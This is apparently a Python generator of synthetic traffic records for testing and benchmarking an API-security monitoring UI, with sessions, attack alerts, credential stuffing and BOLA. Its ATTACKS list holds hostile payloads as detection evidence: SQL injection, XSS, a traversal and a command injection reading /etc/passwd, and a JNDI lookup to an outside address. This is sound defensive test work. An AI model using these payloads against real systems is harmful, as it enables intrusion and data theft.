#!/usr/bin/env python3
"""apitap records for the UI's tests and benchmark, in the shape of docs/events.md plus the
fields being added by attack detection, abuse behaviours and the API inventory (the contract
the UI is built against; see docs/ui.md "Records read").

Until those analyses write their records, this makes traffic that has everything the UI shows:
sessions of named users and anonymous ones, attacks with evidence and outcomes (one of them an
XSS payload that must render as text), alerts of each kind pointing at their evidence, shadow
and zombie endpoints, two sensors. Deterministic for a given --seed.

  ui_records.py > fixtures/ui/incident.jsonl                     # the browser tests' fixture
  ui_records.py --sessions 20000 --long-session 1000 > big.jsonl  # the benchmark's store
"""

import argparse
import json
import random
import sys
from datetime import datetime, timedelta, timezone

XSS_PAYLOAD = "<script>alert('xss')</script><img src=x onerror=alert(1)>"

# (method, path template, concrete path maker, api status, operation id)
ENDPOINTS = [
    ("GET", "/api/v1/products", lambda r: "/api/v1/products", "documented", "listProducts"),
    ("GET", "/api/v1/products/{id}", lambda r: f"/api/v1/products/{r.randint(1, 500)}", "documented", "getProduct"),
    ("GET", "/api/v1/users/{id}/orders", lambda r: f"/api/v1/users/{r.randint(1, 90)}/orders", "documented", "listOrders"),
    ("POST", "/api/v1/orders", lambda r: "/api/v1/orders", "documented", "createOrder"),
    ("GET", "/api/v1/orders/{id}", lambda r: f"/api/v1/orders/{r.randint(1000, 9999)}", "documented", "getOrder"),
    ("GET", "/api/v1/search", lambda r: "/api/v1/search", "documented", "search"),
    ("POST", "/api/v1/cart/items", lambda r: "/api/v1/cart/items", "documented", "addToCart"),
    ("GET", "/api/v0/users/{id}", lambda r: f"/api/v0/users/{r.randint(1, 90)}", "zombie", "getUserV0"),
    ("GET", "/internal/debug/vars", lambda r: "/internal/debug/vars", "shadow", None),
]
LOGIN = ("POST", "/api/v1/login", lambda r: "/api/v1/login", "documented", "login")
USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy"]
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "shop-ios/5.2.1 CFNetwork/1490.0.4 Darwin/23.2.0",
]
ATTACKS = [
    ("sqli", "sqli.fingerprint", "query:q", "1' OR '1'='1' --", "/api/v1/search", "q=1%27%20OR%20%271%27%3D%271%27%20--"),
    ("xss", "xss.script_tag", "query:q", XSS_PAYLOAD[:64], "/api/v1/search", "q=" + XSS_PAYLOAD),
    ("traversal", "traversal.dotdot", "path", "../../../../etc/passwd", "/api/v1/products/..%2f..%2f..%2f..%2fetc%2fpasswd", None),
    ("cmdi", "cmdi.shell_meta", "query:q", ";cat /etc/passwd", "/api/v1/search", "q=%3Bcat%20%2Fetc%2Fpasswd"),
    ("jndi", "jndi.lookup", "header:user-agent", "${jndi:ldap://198.51.100.7/a}", "/api/v1/products", None),
]


def ts(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z"


class Gen:
    def __init__(self, args):
        self.r = random.Random(args.seed)
        self.t0 = datetime.fromisoformat(args.start.replace("Z", "+00:00"))
        self.conn = 0
        self.args = args
        self.out = sys.stdout

    def emit(self, rec):
        self.out.write(json.dumps(rec, separators=(",", ":")))
        self.out.write("\n")

    def sid(self):
        return "%032x" % self.r.getrandbits(128)

    def http(self, t, s, ep, status, attacks=(), ua=None, query=None, path=None, depth=1):
        method, template, make, api_status, op = ep
        path = path or make(self.r)
        uri = path + ("?" + query if query else "")
        api = {"status": api_status, "operation_id": op, "spec": "shop-openapi.yaml" if api_status != "shadow" else None,
               "template": template if api_status != "shadow" else None, "drift": []}
        return {
            "type": "http", "schema_version": 1, "ts": ts(t), "conn_id": s["conn"], "depth": depth,
            "flow": {"src_ip": s["ip"], "src_port": 40000 + s["conn"] % 20000, "dst_ip": "10.20.0.5", "dst_port": 80},
            "request": {"method": method, "uri": uri, "path": path, "query": query, "host": "shop.example.com",
                        "version": "HTTP/1.1", "user_agent": ua or s["ua"], "content_type": "application/json" if method == "POST" else None,
                        "headers": [["Host", "shop.example.com"], ["User-Agent", ua or s["ua"]], ["Authorization", "[redacted]"]],
                        "body_bytes": 64 if method == "POST" else 0},
            "response": None if status is None else {"status": status, "reason": "OK" if status < 400 else "Error", "version": "HTTP/1.1",
                                                     "content_type": "application/json", "headers": [["Content-Type", "application/json"]],
                                                     "body_bytes": self.r.randint(40, 4000), "interim": []},
            "latency_us": None if status is None else self.r.randint(800, 90000),
            "switched_protocol": None, "anomalies": [],
            "session_id": s["id"], "transaction_id": f"{s['conn']}-{depth}",
            "session_key": {"source": s["key"], "verified": True if s["key"].startswith("jwt") else None},
            "client_ip": s["ip"], "endpoint": f"{method} {template}", "endpoint_host": f"shop.example.com {method} {template}",
            "context": {"user": s["user"]} if s["user"] else {},
            "session_anomalies": [], "attacks": list(attacks), "api": api, "sensor_id": s["sensor"],
        }

    def session_record(self, s, phase, t, txs, alerts):
        eps, status, attacks, outcomes, calls = {}, {}, {}, {}, {}
        for h in txs:
            st = str(h["response"]["status"]) if h["response"] else "none"
            e = eps.setdefault(h["endpoint"], {"count": 0, "status": {}})
            e["count"] += 1
            e["status"][st] = e["status"].get(st, 0) + 1
            status[st] = status.get(st, 0) + 1
            calls[h["api"]["status"]] = calls.get(h["api"]["status"], 0) + 1
            for a in h["attacks"]:
                attacks[a["class"]] = attacks.get(a["class"], 0) + 1
                outcomes[a["outcome"]] = outcomes.get(a["outcome"], 0) + 1
        kinds = {}
        for a in alerts:
            kinds[a["kind"]] = kinds.get(a["kind"], 0) + 1
        first_attack = next((h for h in txs if h["attacks"]), None)
        return {
            "type": "session", "schema_version": 1, "phase": phase, "ts": ts(t), "session_id": s["id"], "part": 1,
            "previous_part": None, "linked_from": s.get("linked_from"),
            "session_key": {"source": s["key"], "verified": True if s["key"].startswith("jwt") else None},
            "anonymous": s["user"] is None, "reason": "idle" if phase == "end" else None,
            "first_seen": txs[0]["ts"], "last_seen": txs[-1]["ts"],
            "duration_us": int((datetime.fromisoformat(txs[-1]["ts"][:-1]) - datetime.fromisoformat(txs[0]["ts"][:-1])).total_seconds() * 1e6),
            "requests": len(txs), "request_bytes": sum(h["request"]["body_bytes"] for h in txs),
            "response_bytes": sum(h["response"]["body_bytes"] for h in txs if h["response"]),
            "user": s["user"], "role": "customer" if s["user"] else None,
            "client_ips": [{"ip": s["ip"], "count": len(txs)}], "client_ips_dropped": 0,
            "user_agents": [{"user_agent": s["ua"], "count": len(txs)}], "user_agents_dropped": 0,
            "endpoints": eps, "endpoints_dropped": 0, "status": status,
            "context": {"user": {"present": len(txs), "first": s["user"], "last": s["user"], "distinct": 1,
                                 "distinct_capped": False, "numeric": None}} if s["user"] else {},
            "anomalies": {}, "transaction_ids": [h["transaction_id"] for h in txs][:64],
            "transaction_ids_dropped": max(0, len(txs) - 64),
            "attacks": attacks, "attack_outcomes": outcomes,
            "first_attack_ts": first_attack["ts"] if first_attack else None,
            "requests_before_first_attack": txs.index(first_attack) if first_attack else None,
            "alerts": kinds, "api_calls": calls,
            "shadow_endpoints": sorted({h["endpoint"] for h in txs if h["api"]["status"] == "shadow"}),
            "zombie_endpoints": sorted({h["endpoint"] for h in txs if h["api"]["status"] == "zombie"}),
            "websocket_messages": 0, "sensor_id": s["sensor"],
        }

    def alert(self, kind, s, evidence_txs, evidence, t):
        return {"type": "alert", "schema_version": 1, "kind": kind, "ts": ts(t), "first_ts": evidence_txs[0]["ts"],
                "session_id": s["id"], "client_ip": s["ip"], "user": s["user"], "endpoint": evidence_txs[0]["endpoint"],
                "transaction_ids": [h["transaction_id"] for h in evidence_txs][:32],
                "transaction_ids_dropped": max(0, len(evidence_txs) - 32), "evidence": evidence, "sensor_id": s["sensor"]}

    def new_session(self, user, ip=None, sensor=None):
        self.conn += 1
        r = self.r
        return {"id": self.sid(), "conn": self.conn, "user": user,
                "ip": ip or f"203.0.113.{r.randint(1, 250)}" if user is None else ip or f"198.51.100.{r.randint(1, 250)}",
                "ua": r.choice(AGENTS), "key": "jwt:sub" if user else "fallback:ip+ua",
                "sensor": sensor or r.choice(["tap-1", "tap-1", "tap-2"])}

    def run_session(self, s, t, n, attack_plan=None, kinds=()):
        """n requests from t; attack_plan: {index: attack tuple}; kinds: alert kinds to raise."""
        txs = []
        r = self.r
        for i in range(n):
            t = t + timedelta(milliseconds=r.randint(150, 4000))
            atk = (attack_plan or {}).get(i)
            if atk:
                cls, rule, where, ev, path, query = atk
                status = r.choice([400, 403, 200, 500]) if cls != "xss" else 200
                outcome = {400: "rejected", 403: "blocked", 200: "served", 500: "error"}[status]
                ep = ENDPOINTS[5] if path == "/api/v1/search" else ENDPOINTS[1] if "products/" in path else ENDPOINTS[0]
                ua = ev if where == "header:user-agent" else None
                h = self.http(t, s, ep, status, attacks=[{"class": cls, "rule": rule, "where": where, "evidence": ev, "outcome": outcome}],
                              ua=ua, query=query, path=path, depth=i + 1)
            else:
                ep = LOGIN if i == 0 and s["user"] else r.choices(ENDPOINTS, weights=[20, 30, 10, 6, 10, 8, 8, 1, 1])[0]
                if ep[3] == "zombie" and s["user"] is None:
                    ep = ENDPOINTS[0]
                status = r.choices([200, 201, 304, 404, 500, None], weights=[80, 4, 5, 6, 2, 1])[0]
                h = self.http(t, s, ep, status, depth=i + 1)
            txs.append(h)
        return txs, t

    def incident(self):
        """The browser tests' story: a normal morning, then mallory's attack session."""
        r, t = self.r, self.t0
        records = []
        for k in range(self.args.sessions):
            user = r.choice(USERS + [None, None])
            s = self.new_session(user)
            start = t + timedelta(seconds=r.randint(0, 1800))
            txs, end = self.run_session(s, start, r.randint(3, self.args.max_tx))
            alerts = []
            if any(h["api"]["status"] == "zombie" for h in txs) and k % 3 == 0:
                z = [h for h in txs if h["api"]["status"] == "zombie"]
                alerts.append(self.alert("zombie_api", s, z, {"endpoint": z[0]["endpoint"], "spec": "shop-openapi.yaml", "deprecated": True}, end))
            records += self.wrap(s, txs, alerts, end)
        # mallory: logs in, browses, then probes the search with SQLi and XSS, then walks other
        # users' orders (BOLA).
        s = self.new_session("mallory", ip="192.0.2.66", sensor="tap-1")
        s["ua"] = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
        plan = {6: ATTACKS[0], 8: ATTACKS[1], 9: ATTACKS[1], 11: ATTACKS[2], 13: ATTACKS[3]}
        txs, end = self.run_session(s, t + timedelta(minutes=12), 16, plan)
        t2 = end
        for i in range(12):
            t2 += timedelta(milliseconds=r.randint(200, 600))
            txs.append(self.http(t2, s, ENDPOINTS[2], 200, path=f"/api/v1/users/{i + 10}/orders", depth=len(txs) + 1))
        attacked = [h for h in txs if h["attacks"]]
        served = [h for h in attacked if h["attacks"][0]["outcome"] in ("served", "error")]
        alerts = [self.alert("attack", s, attacked[:1], {"class": attacked[0]["attacks"][0]["class"], "rule": attacked[0]["attacks"][0]["rule"]}, datetime.fromisoformat(attacked[0]["ts"][:-1]))]
        if served:
            alerts.append(self.alert("attack_served", s, served, {"class": served[0]["attacks"][0]["class"], "outcome": served[0]["attacks"][0]["outcome"]}, datetime.fromisoformat(served[0]["ts"][:-1])))
        bola = txs[-12:]
        alerts.append(self.alert("bola", s, bola, {"foreign_ids": 12, "ratio": 0.92, "endpoint": "GET /api/v1/users/{id}/orders"}, t2))
        records += self.wrap(s, txs, alerts, t2)
        # a credential-stuffing client: many anonymous logins, one alert without a session.
        logins = []
        for k in range(6):
            s = self.new_session(None, ip="198.18.7.21", sensor="tap-2")
            s["ua"] = "python-requests/2.31.0"
            txs, end = self.run_session(s, t + timedelta(minutes=20, seconds=k * 3), 1)
            txs[0] = self.http(datetime.fromisoformat(txs[0]["ts"][:-1]), s, LOGIN, 401)
            logins.append(txs[0])
            records += self.wrap(s, txs, [], end)
        a = self.alert("credential_stuffing", {"id": None, "ip": "198.18.7.21", "user": None, "sensor": "tap-2"}, logins, {"failed_logins": 6, "distinct_users": 6, "window_s": 20}, t + timedelta(minutes=20, seconds=18))
        records.append((a["ts"], a))
        for _, rec in sorted(records, key=lambda p: p[0]):
            self.emit(rec)

    def wrap(self, s, txs, alerts, end):
        """Records of one session, with their times for sorting: start, http, alerts, end."""
        out = [(txs[0]["ts"], self.session_record(s, "start", datetime.fromisoformat(txs[0]["ts"][:-1]), txs[:1], []))]
        out += [(h["ts"], h) for h in txs]
        out += [(a["ts"], a) for a in alerts]
        t_end = end + timedelta(minutes=5)
        out.append((ts(t_end), self.session_record(s, "end", t_end, txs, alerts)))
        return out

    def bulk(self):
        """The benchmark's store: many sessions, written as they are made (no sorting)."""
        r, t = self.r, self.t0
        step = timedelta(seconds=self.args.span_s / max(self.args.sessions, 1))
        for k in range(self.args.sessions):
            s = self.new_session(r.choice(USERS + [None] * 3) if k % 7 else f"user{k % 5000}",
                                 ip=f"10.{k % 250}.{k // 250 % 250}.{k % 241 + 1}")
            n = self.args.long_session if k == self.args.sessions // 2 and self.args.long_session else r.randint(2, self.args.max_tx)
            plan = {r.randrange(n): r.choice(ATTACKS)} if k % 25 == 0 else None
            txs, end = self.run_session(s, t + step * k, n, plan)
            alerts = []
            if plan:
                a = [h for h in txs if h["attacks"]]
                alerts.append(self.alert("attack", s, a, {"class": a[0]["attacks"][0]["class"]}, end))
            for _, rec in self.wrap(s, txs, alerts, end):
                self.emit(rec)


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--seed", type=int, default=26)
    p.add_argument("--start", default="2024-05-01T09:00:00Z")
    p.add_argument("--sessions", type=int, default=40, help="background sessions")
    p.add_argument("--max-tx", type=int, default=14, help="most requests of a background session")
    p.add_argument("--long-session", type=int, default=0, help="bulk: one session with this many requests")
    p.add_argument("--span-s", type=float, default=6 * 3600, help="bulk: seconds the sessions spread over")
    p.add_argument("--bulk", action="store_true", help="the benchmark's shape: unsorted, many sessions")
    args = p.parse_args()
    g = Gen(args)
    g.bulk() if args.bulk else g.incident()


if __name__ == "__main__":
    main()
